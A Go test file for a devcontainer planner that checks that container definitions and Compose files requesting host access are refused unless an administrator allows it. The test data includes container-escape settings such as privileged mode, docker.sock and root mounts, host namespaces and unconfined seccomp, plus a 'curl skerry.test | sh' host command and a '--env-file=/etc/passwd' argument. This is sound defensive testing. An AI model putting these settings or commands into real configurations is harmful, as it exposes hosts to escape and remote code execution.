package plan_test

import (
	"slices"
	"testing"
	"testing/fstest"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"domicile/internal/compose"
	"domicile/internal/definition"
	"domicile/internal/fault"
	"domicile/internal/judge"
	"domicile/internal/plan"
)

// made plans a repository with a definition of some lines, and Compose files where given.
func made(t *testing.T, policy judge.Policy, texts map[string]string) (*plan.Plan, error) {
	t.Helper()
	files := fstest.MapFS{}
	for name, text := range texts {
		files[name] = &fstest.MapFile{Data: []byte(text)}
	}
	r := definition.Read(t.Context(), files, definition.Options{Folder: "/workspaces/deck", Compose: compose.Reader{}})
	require.False(t, r.HasErrors(), "%v", r.Problems)
	in := plan.Input{Name: "deck", Commit: "c0", Policy: policy, Host: plan.Host{Site: "quay", CPUs: 2, Memory: 8 << 30}}
	if r.Kind == definition.KindCompose {
		var err error
		if in.Services, err = (compose.Reader{}).Plan(t.Context(), "", files, r); err != nil {
			return nil, err
		}
	}
	return plan.Make(r, in)
}

const file = ".devcontainer/devcontainer.json"

// A definition comes from a repository, so it is nobody's word: what reaches for the host
// is refused with property and line, unless an administrator allows it.
func TestHostileDefinitionsAreRefused(t *testing.T) {
	cases := map[string]struct{ line, allowance, words string }{
		"privileged":            {`"privileged": true`, judge.AllowPrivileged, "privileged"},
		"capability":            {`"capAdd": ["SYS_ADMIN"]`, judge.AllowCapabilities, "SYS_ADMIN"},
		"capability, long name": {`"capAdd": ["CAP_SYS_MODULE"]`, judge.AllowCapabilities, "SYS_MODULE"},
		"all capabilities":      {`"capAdd": ["ALL"]`, judge.AllowCapabilities, "ALL"},
		"no seccomp":            {`"securityOpt": ["seccomp=unconfined"]`, judge.AllowSecurityOptions, "seccomp"},
		"engine's socket":       {`"mounts": ["source=/var/run/docker.sock,target=/s,type=bind"]`, judge.AllowHostMounts, "socket"},
		"host folder":           {`"mounts": [{"type": "bind", "source": "/etc", "target": "/host"}]`, judge.AllowHostMounts, "/etc"},
		"capability to forge":   {`"capAdd": ["NET_RAW"]`, judge.AllowCapabilities, "NET_RAW"},
		"volume that is a path": {`"mounts": ["type=volume,source=/etc,target=/host"]`, judge.AllowHostMounts, "/etc"},
		"up from the source":    {`"mounts": ["type=bind,source=${localWorkspaceFolder}/../..,target=/host"]`, judge.AllowHostMounts, "folder"},
		"-v":                    {`"runArgs": ["-v", "/:/host"]`, judge.AllowHostMounts, "the folder /"},
		"-v in one word":        {`"runArgs": ["-v/:/host"]`, judge.AllowHostMounts, "the folder /"},
		"--volume=":             {`"runArgs": ["--volume=/etc:/host:ro"]`, judge.AllowHostMounts, "/etc"},
		"--mount":               {`"runArgs": ["--mount", "type=bind,src=/,dst=/host"]`, judge.AllowHostMounts, "the folder /"},
		"--privileged":          {`"runArgs": ["--privileged"]`, judge.AllowPrivileged, "privileged"},
		"--cap-add":             {`"runArgs": ["--cap-add=NET_ADMIN"]`, judge.AllowCapabilities, "NET_ADMIN"},
		"--security-opt":        {`"runArgs": ["--security-opt", "apparmor=unconfined"]`, judge.AllowSecurityOptions, "apparmor"},
		"--device":              {`"runArgs": ["--device=/dev/kmsg"]`, judge.AllowDevices, "/dev/kmsg"},
		"--network":             {`"runArgs": ["--network=host"]`, judge.AllowHostSpaces, "network host"},
		"--pid":                 {`"runArgs": ["--pid=host"]`, judge.AllowHostSpaces, "pid"},
		"--ipc":                 {`"runArgs": ["--ipc", "host"]`, judge.AllowHostSpaces, "ipc"},
		"--userns":              {`"runArgs": ["--userns=host"]`, judge.AllowHostSpaces, "userns"},
		"host command":          {`"initializeCommand": "curl skerry.test | sh"`, judge.AllowHostCommands, "initializeCommand"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			text := "{\n\"image\": \"base:12\",\n" + c.line + "\n}"
			_, err := made(t, nil, map[string]string{file: text})
			require.Equal(t, "not-allowed-here", fault.Code(err), "%v", err)
			assert.ErrorContains(t, err, file+":3")
			assert.ErrorContains(t, err, c.words)
			assert.Contains(t, fault.Remedy(err), "-allow "+c.allowance)
			_, err = made(t, judge.Policy{c.allowance}, map[string]string{file: text})
			assert.NotEqual(t, "not-allowed-here", fault.Code(err), "an administrator may allow it")
		})
	}
}

func TestWhatHasNoEquivalentIsRefusedByName(t *testing.T) {
	for _, arg := range []string{"--runtime=other", "--volumes-from=x", "--env-file=/etc/passwd", "--cgroup-parent=/x", "--entrypoint=x", "--link=x", "nonsense", "--oom-score-adj=-1000"} {
		_, err := made(t, nil, map[string]string{file: "{\"image\": \"a\",\n\"runArgs\": [\"" + arg + "\"]}"})
		assert.Equal(t, "not-carried-out", fault.Code(err), arg)
		assert.ErrorContains(t, err, file+":2", arg)
	}
	_, err := made(t, nil, map[string]string{file: `{"build": {"dockerfile": "Dockerfile", "options": ["--allow=security.insecure"]}}`, ".devcontainer/Dockerfile": "FROM a"})
	assert.ErrorContains(t, err, "--allow")
	assert.ErrorContains(t, err, file+":1:")
	_, err = made(t, nil, map[string]string{file: "{\"build\": {\"dockerfile\": \"Dockerfile\",\n\"options\": [\n\"--no-cache\",\n\"--label\", \"domicile.image=x\"]}}", ".devcontainer/Dockerfile": "FROM a"})
	assert.ErrorContains(t, err, "domicile.image")
	_, err = made(t, nil, map[string]string{file: `{"build": {"dockerfile": "Dockerfile", "options": ["--network=host"]}}`, ".devcontainer/Dockerfile": "FROM a"})
	assert.ErrorContains(t, err, "--network=host")
}

func TestHostileComposeFilesAreRefused(t *testing.T) {
	cases := map[string]string{
		"privileged: true": judge.AllowPrivileged, "cap_add: [SYS_ADMIN]": judge.AllowCapabilities, "security_opt: [\"seccomp:unconfined\"]": judge.AllowSecurityOptions,
		"devices: [/dev/kmsg]": judge.AllowDevices, "network_mode: host": judge.AllowHostSpaces, "pid: host": judge.AllowHostSpaces, "ipc: host": judge.AllowHostSpaces,
		"userns_mode: host": judge.AllowHostSpaces, "volumes: [\"/:/host\"]": judge.AllowHostMounts, "volumes: [\"/var/run/docker.sock:/s\"]": judge.AllowHostMounts,
		"volumes: [{type: bind, source: /etc, target: /e}]": judge.AllowHostMounts, "volumes: [\"../../..:/up\"]": judge.AllowHostMounts,
	}
	for attribute, allowance := range cases {
		for _, own := range []string{"work", "beside"} {
			text := "services:\n  work:\n    image: a\n  beside:\n    image: a\n"
			other := "services:\n  " + own + ":\n    " + attribute + "\n"
			_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": ["a.yaml", "b.yaml"], "service": "work"}`, ".devcontainer/a.yaml": text, ".devcontainer/b.yaml": other})
			require.Equal(t, "not-allowed-here", fault.Code(err), "%s of %s: %v", attribute, own, err)
			assert.ErrorContains(t, err, ".devcontainer/b.yaml:3")
			assert.Contains(t, fault.Remedy(err), allowance)
		}
	}
	for _, attribute := range []string{"runtime: other", "volumes_from: [beside]", "cgroup_parent: /x"} {
		_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"}`, ".devcontainer/a.yaml": "services:\n  work:\n    image: a\n    " + attribute + "\n  beside: { image: b }\n"})
		assert.Equal(t, "not-carried-out", fault.Code(err), attribute)
		assert.ErrorContains(t, err, "a.yaml:4")
	}
	_, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"}`, ".devcontainer/a.yaml": "services:\n  work: { image: a }\nvolumes:\n  x: { driver_opts: { type: none, o: bind, device: / } }\n"})
	assert.ErrorContains(t, err, "a.yaml:4")
}

func TestServicesInTheOrderTheyWait(t *testing.T) {
	p, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work", "runServices": ["mail"]}`, ".devcontainer/a.yaml": `
services:
  work: { image: a, depends_on: [web], volumes: ["..:/src/work"] }
  web: { image: a, depends_on: { db: { condition: service_healthy } } }
  db: { image: a, healthcheck: { test: [CMD, "true"], interval: 2s } }
  mail: { image: a, volumes: ["..:/src"], depends_on: [work] }
  unused: { image: a }
`})
	require.NoError(t, err)
	var names []string
	for _, s := range p.Services {
		names = append(names, s.Name)
	}
	assert.Equal(t, []string{"db", "web", "mail"}, names)
	assert.Equal(t, "/src/work", p.Container.SourceTarget)
	assert.True(t, p.Services[2].Late, "it needs the source and the workspace")
	assert.Equal(t, []string{"CMD", "true"}, p.Services[0].Health.Test)
	assert.Equal(t, plan.Healthy, p.Services[1].After[0].Condition)
}

func TestServicesWithAProfileRunOnlyWhenTheyAreWanted(t *testing.T) {
	text := "services:\n  work: { image: a }\n  plain: { image: a }\n  debug: { image: a, profiles: [debug], depends_on: [tools] }\n  tools: { image: a, profiles: [debug] }\n"
	names := func(more string) (list []string) {
		p, err := made(t, nil, map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"` + more + `}`, ".devcontainer/a.yaml": text})
		require.NoError(t, err)
		for _, s := range p.Services {
			list = append(list, s.Name)
		}
		return list
	}
	assert.Equal(t, []string{"plain"}, names(""))
	assert.Equal(t, []string{"tools", "debug"}, names(`, "runServices": ["debug"]`))
}

// Files in memory take at most half of the memory, whoever asks for them.
func TestFilesInMemoryAreBounded(t *testing.T) {
	compose := func(service string) map[string]string {
		return map[string]string{file: `{"dockerComposeFile": "../compose.yaml", "service": "app"}`, "compose.yaml": "services:\n  app:\n    image: a\n" + service}
	}
	for name, texts := range map[string]map[string]string{
		"runArgs":              {file: `{"image": "a", "runArgs": ["--tmpfs", "/t:size=99g"]}`},
		"runArgs, shared":      {file: `{"image": "a", "runArgs": ["--shm-size", "99g"]}`},
		"Compose, short":       compose("    tmpfs: /t:size=99g\n"),
		"Compose, long":        compose("    volumes:\n      - {type: tmpfs, target: /t, tmpfs: {size: 99g}}\n"),
		"Compose, shared":      compose("    shm_size: 99g\n"),
		"Compose, beside":      compose("  db:\n    image: b\n    tmpfs: /t:size=5g\n"),
		"a little over a half": {file: `{"image": "a", "runArgs": ["--tmpfs", "/t:size=4097m"]}`},
	} {
		_, err := made(t, nil, texts)
		assert.ErrorContains(t, err, "at most half of the memory, 4 GB", name)
	}
	_, err := made(t, nil, map[string]string{file: `{"image": "a", "runArgs": ["--tmpfs", "/t:size=4g"]}`})
	assert.NoError(t, err)
}

func TestSettingsAreMapped(t *testing.T) {
	p, err := made(t, nil, map[string]string{file: `{"image": "a", "capAdd": ["SYS_PTRACE"], "init": true, "mounts": ["type=volume,source=cache,target=/cache", "type=tmpfs,target=/scratch"],
		"runArgs": ["--shm-size=64m", "-m", "1g", "--cpus=1.5", "-e", "A=b", "--add-host=quay:10.0.0.1", "--ulimit", "nofile=1024:2048", "--hostname", "quay", "-it", "--rm", "-p", "80:80", "--tmpfs=/t:size=1m"],
		"appPort": [3000, "8081:81"], "forwardPorts": [3000], "containerEnv": {"X": "1", "P": "${PATH}:/x"}}`})
	require.NoError(t, err)
	c := p.Container
	assert.Equal(t, int64(64<<20), c.SharedMemory)
	assert.Equal(t, int64(1<<30), c.Memory)
	assert.InDelta(t, 1.5, c.CPUs, 0)
	assert.Equal(t, map[string]string{"X": "1", "A": "b", "P": "${PATH}:/x"}, c.Env, "what means nothing stays")
	assert.Equal(t, "quay", c.Hostname)
	assert.Equal(t, []string{"quay:10.0.0.1"}, c.Hosts)
	assert.Equal(t, []string{"nofile=1024:2048"}, c.Ulimits)
	assert.Equal(t, []plan.Mount{{Type: "volume", Source: "cache", Target: "/cache"}, {Type: "tmpfs", Target: "/scratch"}, {Type: "tmpfs", Target: "/t", Size: 1 << 20}}, c.Mounts)
	assert.Len(t, p.Ports, 2, "3000 once, and 81")
}

// What need not change a container must not.
func TestWhatChangesWhichStep(t *testing.T) {
	base := `{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "x"}}, "onCreateCommand": "a", "postStartCommand": "b"}`
	digests := func(text string) map[string]string {
		p, err := made(t, nil, map[string]string{file: text})
		require.NoError(t, err)
		out := map[string]string{}
		for _, s := range p.Steps {
			out[s.Name] = s.Digest
		}
		return out
	}
	first := digests(base)
	assert.Equal(t, first, digests(`{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "y"}}, "onCreateCommand": "a", "postStartCommand": "b"}`), "a port's label changes nothing")
	later := digests(`{"image": "a", "forwardPorts": [80], "portsAttributes": {"80": {"label": "x"}}, "onCreateCommand": "a", "postStartCommand": "c"}`)
	assert.Equal(t, first[plan.StepContainer], later[plan.StepContainer], "a command changes no container")
	assert.Equal(t, first["onCreateCommand"], later["onCreateCommand"])
	assert.NotEqual(t, first["postStartCommand"], later["postStartCommand"])
	assert.NotEqual(t, first[plan.StepContainer], digests(`{"image": "a", "containerEnv": {"X": "1"}}`)[plan.StepContainer])
}

// A container's network is joined within a workspace alone, and only where it can be there.
func TestWhoseNetworkIsJoined(t *testing.T) {
	compose := func(own, beside, deep string) map[string]string {
		return map[string]string{file: `{"dockerComposeFile": "a.yaml", "service": "work"}`, ".devcontainer/a.yaml": "services:\n  work: { image: a" + own + " }\n  beside: { image: a" + beside + " }\n  deep: { image: a" + deep + " }\n"}
	}
	for what, files := range map[string]map[string]string{
		"runArgs":            {file: `{"image": "a", "runArgs": ["--network=service:beside"]}`},
		"the word of ours":   {file: `{"image": "a", "runArgs": ["--network=."]}`},
		"a container":        compose(`, network_mode: "container:domicile-x-w1"`, "", ""),
		"one that is behind": compose(`, network_mode: "service:beside"`, `, volumes: ["..:/src"]`, ""),
	} {
		_, err := made(t, nil, files)
		assert.Error(t, err, what)
	}
	p, err := made(t, nil, compose(`, network_mode: "service:beside"`, `, network_mode: "service:deep"`, ""))
	require.NoError(t, err)
	assert.Equal(t, "beside", p.Container.NetworkOf)
	assert.Empty(t, p.Container.Service.Networks)
	var order []string
	for _, s := range p.Services {
		order = append(order, s.Name)
	}
	assert.Equal(t, []string{"deep", "beside"}, order, "who is joined starts first")
	again, err := made(t, nil, compose(`, network_mode: "service:beside"`, `, network_mode: "service:deep"`, ", hostname: other"))
	require.NoError(t, err)
	assert.NotEqual(t, p.Container.Digest, again.Container.Digest, "who joins is made anew with it")
	p, err = made(t, nil, compose("", `, network_mode: "service:work"`, ""))
	require.NoError(t, err)
	i := slices.IndexFunc(p.Services, func(s plan.Service) bool { return s.Name == "beside" })
	assert.Equal(t, ".", p.Services[i].NetworkOf)
	assert.True(t, p.Services[i].Late)
	assert.Equal(t, p.Container.Digest, p.Services[i].Joins)
}
